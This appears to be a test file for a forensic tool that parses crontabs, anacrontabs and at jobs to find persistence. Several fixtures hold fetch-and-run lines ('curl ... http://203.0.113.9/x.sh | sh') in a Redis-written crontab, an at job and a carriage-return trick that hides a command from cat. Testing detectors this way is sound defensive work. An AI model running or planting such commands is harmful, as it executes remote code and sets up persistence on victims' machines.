import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseAtJob, parseAtJobName } from '../../src/host/at-job.js';
import { parseAnacrontab, parseCrontab, parseEnvLine, runPartsName, splitLines, validField, type CronJob } from '../../src/host/crontab.js';
import { PROJECT } from '../helpers.js';

const FIX = path.join(PROJECT, 'test/fixtures/persistence-a');
const jobs = (data: Buffer | string, flavor: 'system' | 'user') => parseCrontab(Buffer.from(data), flavor).entries.filter((e): e is CronJob => e.kind === 'job');

test('system crontab: schedule, user and command; env lines; comments skipped', () => {
  const text = [
    '# /etc/crontab: system-wide crontab',
    'SHELL=/bin/sh',
    'PATH = "/usr/local/sbin:/usr/bin"',
    'MAILTO=""',
    '',
    '17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly',
    '   # indented comment',
    '*/5 1-5,7 1 jan-mar mon-fri www-data /usr/bin/php /var/www/cron.php  ',
    '@reboot root /opt/.x/start',
    '',
  ].join('\n');
  const { entries, junkLines, junkBytes, lineCount } = parseCrontab(Buffer.from(text), 'system');
  assert.deepEqual(junkLines, []);
  assert.equal(junkBytes, 0);
  assert.equal(lineCount, 9);
  const env = entries.filter((e) => e.kind === 'env');
  assert.deepEqual(
    env.map((e) => [e.line, e.name.toString(), e.value.toString()]),
    [
      [2, 'SHELL', '/bin/sh'],
      [3, 'PATH', '/usr/local/sbin:/usr/bin'],
      [4, 'MAILTO', ''],
    ],
  );
  const js = entries.filter((e): e is CronJob => e.kind === 'job');
  assert.deepEqual(
    js.map((j) => [j.line, j.schedule, j.special, j.user?.toString(), j.command.toString()]),
    [
      [6, '17 * * * *', null, 'root', 'cd / && run-parts --report /etc/cron.hourly'],
      [8, '*/5 1-5,7 1 jan-mar mon-fri', null, 'www-data', '/usr/bin/php /var/www/cron.php  '],
      [9, '@reboot', '@reboot', 'root', '/opt/.x/start'],
    ],
  );
});

test('user crontab has no user field: the sixth word is the command', () => {
  const [j] = jobs('0 3 * * * /home/bob/backup.sh --all\n', 'user');
  assert.equal(j!.user, null);
  assert.equal(j!.command.toString(), '/home/bob/backup.sh --all');
  // the same line read as a system crontab takes the program as the user
  const [s] = jobs('0 3 * * * /home/bob/backup.sh --all\n', 'system');
  assert.equal(s!.user!.toString(), '/home/bob/backup.sh');
  assert.equal(s!.command.toString(), '--all');
});

test('CRLF: the carriage return stays in the command and is flagged', () => {
  const [j] = jobs('* * * * * root /usr/bin/true\r\n', 'system');
  assert.equal(j!.crlf, true);
  assert.equal(j!.carriageReturns, 0);
  assert.equal(j!.command.toString('latin1'), '/usr/bin/true\r');
  assert.equal(j!.raw.toString('latin1'), '* * * * * root /usr/bin/true\r');
});

test('a carriage return that hides a command from cat is counted and kept byte for byte', () => {
  const line = '* * * * * curl -s http://203.0.113.9/x|sh;exit\r* * * * * echo ok';
  const [j] = jobs(`${line}\n`, 'user');
  assert.equal(j!.crlf, false);
  assert.equal(j!.carriageReturns, 1);
  assert.equal(j!.command.toString('latin1'), 'curl -s http://203.0.113.9/x|sh;exit\r* * * * * echo ok');
  assert.equal(j!.raw.toString('latin1'), line);
});

test('a crontab written by Redis (real RDB dump): junk and NULs around one valid line', () => {
  // written by redis-server 7 with CONFIG SET dir/dbfilename and SAVE, as in the well-known attack
  const data = readFileSync(path.join(FIX, 'redis-crontab.bin'));
  const { entries, junkLines, junkBytes, nulBytes } = parseCrontab(data, 'user');
  const js = entries.filter((e): e is CronJob => e.kind === 'job');
  assert.equal(js.length, 1);
  assert.equal(js[0]!.schedule, '*/1 * * * *');
  assert.equal(js[0]!.command.toString(), 'curl -fsSL http://203.0.113.9/x.sh | sh');
  // the length byte of "redis-bits" is a newline, so the header spans two lines
  assert.equal(js[0]!.line, 4);
  assert.equal(entries.length, 1);
  assert.deepEqual(junkLines, [1, 2, 6]);
  assert.equal(junkBytes, 97);
  assert.equal(nulBytes, 5);
  assert.equal(junkBytes + js[0]!.raw.length + splitLines(data).length - 1, data.length);
});

test('junk glued to a schedule makes the line invalid, as cron would find it', () => {
  const data = Buffer.concat([Buffer.from([0, 0x1e, 0xff]), Buffer.from('*/1 * * * * id\n'), Buffer.from('\x00\x00\n')]);
  const r = parseCrontab(data, 'user');
  assert.equal(r.entries.length, 0);
  assert.deepEqual(r.junkLines, [1, 2]);
  assert.equal(r.nulBytes, 3);
});

test('invalid schedules are rejected', () => {
  for (const bad of ['60 * * * * x', '* 24 * * * x', '* * 0 * * x', '* * * 13 * x', '* * * * 8 x', '*/0 * * * * x', '* * * * *', '@boot x', '@reboot', '1,,2 * * * * x', 'a * * * * x', '* * * foo * x']) {
    assert.equal(jobs(bad, 'user').length, 0, bad);
  }
  for (const good of ['0-59/15 * * * * x', '* * * * 7 x', '0~30 * * * * x', '5/10 * * * * x', '* * * DEC SUN x', '@midnight x', '@annually x']) {
    assert.equal(jobs(good, 'user').length, 1, good);
  }
  assert.equal(validField('1-5', 4), true);
  assert.equal(validField('mon-fri/2', 4), true);
});

test('env lines as cron reads them: quoted names and values, blanks around =', () => {
  assert.deepEqual(
    [parseEnvLine(Buffer.from(' "A B" = \'x y\' '))].map((e) => e && [e.name.toString(), e.value.toString()]),
    [['A B', 'x y']],
  );
  assert.equal(parseEnvLine(Buffer.from('* * * * * A=b cmd')), null);
  assert.equal(parseEnvLine(Buffer.from('=x')), null);
});

test('invalid UTF-8 and control bytes are kept in the command', () => {
  const data = Buffer.concat([Buffer.from('@hourly /tmp/'), Buffer.from([0xff, 0xfe, 0x1b]), Buffer.from('[2J\n')]);
  const [j] = jobs(data, 'user');
  assert.deepEqual([...j!.command.subarray(5, 8)], [0xff, 0xfe, 0x1b]);
  assert.equal(j!.controlBytes, 1);
});

test('anacrontab: period, delay, identifier, command; env lines', () => {
  const text = 'SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\n7 x bad cmd\n';
  const r = parseAnacrontab(Buffer.from(text));
  assert.deepEqual(r.junkLines, [5]);
  const js = r.entries.filter((e) => e.kind === 'job');
  assert.deepEqual(
    js.map((j) => ('period' in j ? [j.line, j.period, j.delay, j.id.toString(), j.command.toString()] : null)),
    [
      [3, '1', '5', 'cron.daily', 'run-parts --report /etc/cron.daily'],
      [4, '@monthly', '15', 'cron.monthly', 'run-parts /etc/cron.monthly'],
    ],
  );
});

test('at job written by at(1) 3.2: uid, mail user, cwd and commands', () => {
  const name = 'b0000201c89cfc';
  const data = readFileSync(path.join(FIX, `atjob-${name}`));
  const job = parseAtJob(data);
  assert.equal(job.uid, 0);
  assert.equal(job.gid, 0);
  assert.equal(job.mailUser, 'root');
  assert.equal(job.cwd, '/tmp');
  assert.equal(job.command.toString(), 'curl -fsSL http://203.0.113.9/a.sh | sh');
  assert.equal(job.commandLine, 12);
  assert.deepEqual(parseAtJobName(name), { queue: 'b', jobNumber: 2, runAt: '2026-11-23T23:24:00.000Z' });
  assert.equal(parseAtJobName('.SEQ'), null);
});

test('at job of the heredoc format (at 3.1.2x)', () => {
  const text = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail bob 0\numask 22\ncd /home/bob || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6c1f2e1a'\nid > /tmp/o\nwhoami\nmarcinDELIMITER6c1f2e1a\n";
  const job = parseAtJob(Buffer.from(text));
  assert.equal(job.uid, 1000);
  assert.equal(job.command.toString(), 'id > /tmp/o\nwhoami');
  assert.equal(job.commandLine, 10);
});

test('run-parts names', () => {
  assert.equal(runPartsName('apt-compat'), true);
  assert.equal(runPartsName('evil.sh'), false);
  assert.equal(runPartsName('.placeholder'), false);
});

test('property: any bytes parse without throwing; lines are exact slices; junk adds up', () => {
  const cronish = fc.oneof(
    fc.uint8Array({ maxLength: 300 }).map((a) => Buffer.from(a)),
    fc
      .array(fc.oneof(fc.constantFrom('* * * * * root id', '@reboot x', 'A=b', '# c', '', '\r', '\x00\xff', '*/5 1 * * mon cmd\r'), fc.string()), { maxLength: 12 })
      .map((ls) => Buffer.from(ls.join('\n'), 'latin1')),
  );
  fc.assert(
    fc.property(cronish, fc.constantFrom('system' as const, 'user' as const), (data, flavor) => {
      const r = parseCrontab(data, flavor);
      const lines = splitLines(data);
      assert.equal(r.lineCount, lines.length);
      for (const e of r.entries) assert.ok(lines[e.line - 1]!.equals(e.raw));
      assert.equal(r.junkBytes, r.junkLines.reduce((n, l) => n + lines[l - 1]!.length, 0));
      parseAnacrontab(data);
      parseAtJob(data);
    }),
    { numRuns: 500 },
  );
});
